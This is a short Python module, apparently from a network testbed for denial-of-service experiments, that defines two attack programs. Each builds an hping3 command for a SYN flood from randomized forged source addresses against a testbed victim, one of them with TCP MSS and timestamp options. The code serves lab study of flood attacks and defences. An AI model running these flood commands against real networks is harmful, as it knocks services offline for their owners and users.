"""The attacks, as programs in the attacker's network."""

from __future__ import annotations

import signal
from collections.abc import Callable, Mapping
from pathlib import Path
from types import MappingProxyType

from skerry.testbed.experiments.ddos_loop.processes import Program
from skerry.testbed.experiments.ddos_loop.star import PORT, VICTIM

SYN = f"hping3 -q -S -p {PORT} --flood --rand-source"


def flood(network: str, folder: Path) -> Program:
    """Send opening packets from forged sources, as fast as it goes: 40 bytes each."""
    return Program(network, [*SYN.split(), VICTIM], folder)


def flood_with_options(network: str, folder: Path) -> Program:
    """Send opening packets with segment size and time stamp, as clients do, from forged sources."""
    return Program(network, [*SYN.split(), "--tcp-mss", "1460", "--tcp-timestamp", VICTIM], folder)


ATTACKS: Mapping[str, Callable[[str, Path], Program]] = MappingProxyType(
    {"syn-flood": flood, "syn-options": flood_with_options}
)
END = signal.SIGINT
